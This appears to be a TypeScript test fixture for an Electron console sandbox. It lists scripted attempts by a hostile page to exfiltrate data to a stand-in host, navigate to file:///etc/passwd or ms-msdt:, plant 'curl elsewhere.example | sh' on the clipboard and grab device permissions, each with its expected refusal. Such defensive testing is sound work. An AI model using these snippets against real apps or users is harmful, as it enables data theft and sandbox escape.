/**
 * What a hostile console page may try. Each attempt is a piece of script that runs inside the page
 * just after a click of the user; what it comes to is its value, or the name of the error.
 */
export interface Attempt {
  readonly what: string;
  /** An expression; `ELSEWHERE` is the address of another server. */
  readonly script: string;
  /** What the page sees of it when the app does its duty; nothing unless told. */
  readonly outcome?: unknown;
  /** What the app writes into its log: the proof that it was tried, and refused. */
  readonly refusal?: string;
}

/** A script that runs in a worker and answers with one message. */
const inWorker = (script: string): string =>
  `new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}])));
    worker.onmessage = ({ data }) => resolve(data);
  })`;

/** Puts an element into the page; answers which of its events came. */
const load = (tag: string, properties: string): string =>
  `new Promise((resolve) => {
    const element = Object.assign(document.createElement('${tag}'), ${properties});
    element.onload = element.onopen = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    document.body.append(element);
  })`;

/** Puts an element into the page and clicks it. */
const click = (properties: string): string =>
  `{ const link = Object.assign(document.createElement('a'), ${properties});
    document.body.append(link);
    link.click(); }`;

/** Sends a form. */
const submit = (properties: string): string =>
  `{ const form = Object.assign(document.createElement('form'), ${properties});
    document.body.append(form);
    form.submit(); }`;

/** Shows another page in a frame. */
const frame = (address: string): string =>
  `{ const frame = document.createElement('iframe');
    frame.src = ${address};
    document.body.append(frame); }`;

const POWERS = "['require', 'process', 'module', 'Buffer', 'global', 'electron', 'crashcart']";

/** To have Node, the app's bridge or another window in reach. */
const REACHES: readonly Attempt[] = [
  {
    what: 'find Node or the bridge',
    script: `${POWERS}.filter((name) => name in window)`,
    outcome: [],
  },
  {
    what: 'find Node in a worker',
    script: inWorker(`postMessage(${POWERS}.filter((name) => name in self))`),
    outcome: [],
  },
  {
    what: 'find Node or the bridge in a frame',
    script: `(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return ${POWERS}.filter((name) => name in frame.contentWindow);
    })()`,
    outcome: [],
  },
  {
    what: 'find a window above or before it',
    script: '[window.top === window, window.parent === window, window.opener]',
    outcome: [true, true, null],
  },
  {
    what: 'have guests of its own',
    script: "'getWebContentsId' in document.createElement('webview')",
    outcome: false,
  },
];

const REQUEST = 'Console request refused: ELSEWHERE';

/** To get something out to another server. */
const LEAKS: readonly Attempt[] = [
  {
    what: 'fetch',
    script: "fetch('ELSEWHERE/1', { mode: 'no-cors' })",
    outcome: 'TypeError',
    refusal: `${REQUEST}/1`,
  },
  {
    what: 'XMLHttpRequest',
    script: `new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => resolve(request.status);
      request.open('POST', 'ELSEWHERE/2');
      request.send('secret');
    })`,
    outcome: 0,
    refusal: `${REQUEST}/2`,
  },
  {
    what: 'a WebSocket',
    script: `new Promise((resolve) => {
      const socket = new WebSocket('ELSEWHERE/3'.replace('https', 'wss'));
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    })`,
    outcome: 'refused',
    refusal: `${REQUEST}/3`.replace('ELSEWHERE', 'SOCKETS'),
  },
  {
    what: 'server-sent events',
    script: `new Promise((resolve) => {
      const source = new EventSource('ELSEWHERE/4');
      source.onopen = () => resolve('open');
      source.onerror = () => resolve('refused');
    })`,
    outcome: 'refused',
    refusal: `${REQUEST}/4`,
  },
  {
    what: 'an image',
    script: load('img', "{ src: 'ELSEWHERE/5' }"),
    outcome: 'refused',
    refusal: `${REQUEST}/5`,
  },
  {
    what: 'a script',
    script: load('script', "{ src: 'ELSEWHERE/6' }"),
    outcome: 'refused',
    refusal: `${REQUEST}/6`,
  },
  {
    what: 'a style sheet',
    script: load('link', "{ rel: 'stylesheet', href: 'ELSEWHERE/7' }"),
    outcome: 'refused',
    refusal: `${REQUEST}/7`,
  },
  {
    what: 'fetch in a worker',
    script: inWorker(
      "fetch('ELSEWHERE/8').then(() => postMessage('fetched'), () => postMessage('refused'))",
    ),
    outcome: 'refused',
    refusal: `${REQUEST}/8`,
  },
  {
    what: 'a beacon',
    // It always says yes; nobody tells the page what came of it.
    script: "navigator.sendBeacon('ELSEWHERE/9', 'secret')",
    outcome: true,
    refusal: `${REQUEST}/9`,
  },
  {
    what: 'the ping of a link',
    script: click("{ href: '#here', ping: 'ELSEWHERE/10' }"),
    refusal: `${REQUEST}/10`,
  },
  {
    what: 'a font',
    script: "new FontFace('Elsewhere', 'url(ELSEWHERE/11)').load()",
    outcome: 'NetworkError',
    refusal: `${REQUEST}/11`,
  },
];

/** Looks for ways to a peer, by way of this server; answers the ones found. */
const gather = (server: string): string =>
  `new Promise((resolve) => {
    const peer = new RTCPeerConnection({ iceServers: [{
      urls: 'ELSEWHERE'.replace('https://', '${server}:') + '${server === 'stun' ? '' : '?transport=tcp'}',
      ${server === 'stun' ? '' : "username: 'secret', credential: 'secret',"}
    }] });
    const found = [];
    peer.onicecandidate = ({ candidate }) =>
      candidate === null ? resolve(found) : found.push(candidate.type);
    peer.createDataChannel('out');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  })`;

/** Puts something into the head that is only a hint, so no event tells what came of it. */
const hint = (properties: string): string =>
  `{ document.head.append(Object.assign(document.createElement('link'), ${properties})); }`;

/**
 * To get something out by ways that are no requests of the page, or to learn this computer's
 * addresses.
 */
const SIDE_DOORS: readonly Attempt[] = [
  { what: 'WebRTC, over a datagram', script: gather('stun'), outcome: [] },
  { what: 'WebRTC, over TCP', script: gather('turn'), outcome: [] },
  { what: 'WebRTC, over TLS', script: gather('turns'), outcome: [] },
  {
    what: 'HTTP/3',
    script: "new WebTransport('ELSEWHERE/50').ready.then(() => 'open')",
    outcome: 'WebTransportError',
  },
  { what: 'a connection ahead of time', script: hint("{ rel: 'preconnect', href: 'ELSEWHERE' }") },
  {
    what: 'a name looked up ahead of time',
    script: hint("{ rel: 'dns-prefetch', href: '//secret.elsewhere.example' }"),
  },
  {
    what: 'a page fetched ahead of time',
    script: hint("{ rel: 'prefetch', href: 'ELSEWHERE/51' }"),
    refusal: `${REQUEST}/51`,
  },
  {
    what: 'a page shown ahead of time',
    script: `{ document.head.append(Object.assign(document.createElement('script'), {
      type: 'speculationrules',
      textContent: JSON.stringify({ prerender: [{ source: 'list', urls: ['ELSEWHERE/52'] }],
        prefetch: [{ source: 'list', urls: ['ELSEWHERE/53'] }] }),
    })); }`,
  },
  {
    what: 'a video',
    script: `new Promise((resolve) => {
      const video = Object.assign(document.createElement('video'), { src: 'ELSEWHERE/54' });
      video.onerror = () => resolve('refused');
      video.onloadedmetadata = () => resolve('loaded');
    })`,
    outcome: 'refused',
    refusal: `${REQUEST}/54`,
  },
  {
    what: 'a plug-in',
    script: `{ document.body.append(Object.assign(document.createElement('object'), {
      data: 'ELSEWHERE/55' })); }`,
    refusal: 'ELSEWHERE/55',
  },
  {
    what: 'an image in a style',
    script: "{ document.body.style.backgroundImage = 'url(ELSEWHERE/56)'; }",
    refusal: `${REQUEST}/56`,
  },
];

const NAVIGATION = 'Navigation refused: ';

/** To go elsewhere, or to take a part of the page there. */
const DEPARTURES: readonly Attempt[] = [
  {
    what: 'location',
    script: "{ location.href = 'ELSEWHERE/20'; }",
    refusal: `${NAVIGATION}ELSEWHERE/20`,
  },
  {
    what: 'location.replace',
    script: "{ location.replace('ELSEWHERE/21'); }",
    refusal: `${NAVIGATION}ELSEWHERE/21`,
  },
  {
    what: 'a form',
    script: submit("{ action: 'ELSEWHERE/22', method: 'post' }"),
    refusal: `${NAVIGATION}ELSEWHERE/22`,
  },
  {
    what: 'a refresh in its head',
    script: `{ document.head.append(Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh', content: '0; url=ELSEWHERE/23' })); }`,
    refusal: `${NAVIGATION}ELSEWHERE/23`,
  },
  {
    what: 'a click on a link',
    script: click("{ href: 'ELSEWHERE/24' }"),
    refusal: `${NAVIGATION}ELSEWHERE/24`,
  },
  { what: 'a frame', script: frame("'ELSEWHERE/25'"), refusal: `${NAVIGATION}ELSEWHERE/25` },
  {
    what: "the app's own page",
    script: "{ location.href = 'app://crashcart/'; }",
    refusal: `${NAVIGATION}app://crashcart/`,
  },
  {
    what: "the app's own page in a frame",
    script: frame("'app://crashcart/index.html'"),
    refusal: `${NAVIGATION}app://crashcart/index.html`,
  },
  {
    what: 'a mail program',
    script: "{ location.href = 'mailto:somebody@elsewhere.example'; }",
    refusal: `${NAVIGATION}mailto:`,
  },
  {
    what: 'another program',
    script: "{ location.href = 'ms-msdt:/id-PCWDiagnostic'; }",
    refusal: `${NAVIGATION}ms-msdt:`,
  },
  // Chromium itself refuses these; no event tells of them.
  { what: 'a file of this computer', script: "{ location.href = 'file:///etc/passwd'; }" },
  { what: 'a page out of itself', script: "{ location.href = 'data:text/html,Sign in'; }" },
];

/** To open another window, or show something outside of itself. */
const WINDOWS: readonly Attempt[] = [
  {
    what: 'window.open',
    script: "window.open('ELSEWHERE/40')",
    outcome: null,
  },
  { what: 'window.open of nothing', script: "window.open('about:blank')", outcome: null },
  {
    what: 'window.open with wishes',
    script: "window.open('ELSEWHERE/41', 'x', 'popup,nodeIntegration=yes,webviewTag=yes')",
    outcome: null,
  },
  {
    what: 'a link to a new window',
    script: click("{ href: 'ELSEWHERE/42', target: '_blank' }"),
  },
  {
    what: 'a form in a new window',
    script: submit("{ action: 'ELSEWHERE/43', target: '_blank' }"),
  },
  { what: 'alert', script: "alert('Your password, please')" },
  { what: 'confirm', script: "confirm('Your password, please')", outcome: false },
  { what: 'prompt', script: "prompt('Your password, please')", outcome: 'Error' },
  { what: 'print', script: 'print()' },
  { what: 'the title of the app', script: "{ document.title = '\\u202eCrashcart\\u0007'; }" },
  {
    what: 'a way back into nowhere',
    script: `{ for (let i = 0; i < 100; i += 1) history.pushState({}, '', location.href);
      history.go(-200); }`,
  },
];

/** To save something on this computer. */
const DOWNLOADS: readonly Attempt[] = [
  {
    what: 'a link that saves what it made',
    script: click("{ href: URL.createObjectURL(new Blob(['harm'])), download: 'harm.sh' }"),
  },
  {
    what: 'a link that saves a file of its server',
    script: click("{ href: '/vnc/x/vnc_auto.html', download: 'harm.sh' }"),
  },
];

/** A refusal by whichever of the guards is met first: each has its own name for it. */
const REFUSED = /^(NotAllowed|Security|NotSupported|InvalidState|NotFound|Type)Error$/;

/** To use what needs a permission. */
const USES: readonly Attempt[] = [
  { what: 'read the clipboard', script: 'navigator.clipboard.readText()', outcome: REFUSED },
  {
    what: 'write the clipboard',
    script: "navigator.clipboard.writeText('curl elsewhere.example | sh')",
    outcome: REFUSED,
  },
  {
    what: 'know where this computer is',
    script: `new Promise((resolve) => navigator.geolocation.getCurrentPosition(
      () => resolve('known'), ({ code }) => resolve(code)))`,
    // PERMISSION_DENIED
    outcome: 1,
  },
  {
    what: 'look through the camera',
    script: 'navigator.mediaDevices.getUserMedia({ video: true })',
    outcome: REFUSED,
  },
  {
    what: 'listen through the microphone',
    script: 'navigator.mediaDevices.getUserMedia({ audio: true })',
    outcome: REFUSED,
  },
  {
    what: 'record the screen',
    script: 'navigator.mediaDevices.getDisplayMedia()',
    outcome: REFUSED,
  },
  { what: 'show notifications', script: 'Notification.requestPermission()', outcome: 'denied' },
  { what: 'keep data for ever', script: 'navigator.storage.persist()', outcome: false },
  {
    what: 'play music through MIDI',
    script: 'navigator.requestMIDIAccess({ sysex: true })',
    outcome: REFUSED,
  },
  {
    what: 'keep the screen awake',
    script: "navigator.wakeLock.request('screen')",
    outcome: REFUSED,
  },
  {
    what: 'know when nobody is here',
    script:
      "IdleDetector.requestPermission().then((state) => (state === 'denied' ? 'NotAllowedError' : state))",
    outcome: REFUSED,
  },
  {
    what: 'use a serial port',
    script: 'navigator.serial.requestPort()',
    outcome: REFUSED,
  },
  {
    what: 'use an input device',
    script: 'navigator.hid.requestDevice({ filters: [] })',
    outcome: REFUSED,
  },
  {
    what: 'use Bluetooth',
    script: 'navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
    outcome: REFUSED,
  },
  { what: 'catch all keys', script: 'navigator.keyboard.lock()', outcome: REFUSED },
  { what: 'know the screens', script: 'getScreenDetails()', outcome: REFUSED },
  { what: 'list the fonts', script: 'queryLocalFonts()', outcome: REFUSED },
  // These two brought Electron 25 down where no header kept the page from them.
  { what: 'list USB devices', script: 'navigator.usb.getDevices()', outcome: REFUSED },
  {
    what: 'use a USB device',
    script: 'navigator.usb.requestDevice({ filters: [] })',
    outcome: REFUSED,
  },
  // Without an answer in Electron 25; whether it came to anything is seen in the window.
  { what: 'fill the screen', script: '{ document.body.requestFullscreen().catch(() => {}); }' },
];

/** The attempts by what the page is after. */
export const ATTEMPTS = {
  'reach beyond its own world': REACHES,
  'get anything out to another server': LEAKS,
  'get anything out by a side door': SIDE_DOORS,
  'go elsewhere': DEPARTURES,
  'open a window': WINDOWS,
  'save a file': DOWNLOADS,
  'use a permission': USES,
} as const satisfies Readonly<Record<string, readonly Attempt[]>>;

/** Permissions by the names in which a page asks for their state. */
export const PERMISSIONS = [
  ...['accelerometer', 'background-sync', 'camera', 'clipboard-read', 'clipboard-write'],
  ...['display-capture', 'geolocation', 'gyroscope', 'idle-detection', 'local-fonts'],
  ...['magnetometer', 'microphone', 'midi', 'notifications', 'payment-handler'],
  ...['persistent-storage', 'screen-wake-lock', 'window-management'],
];
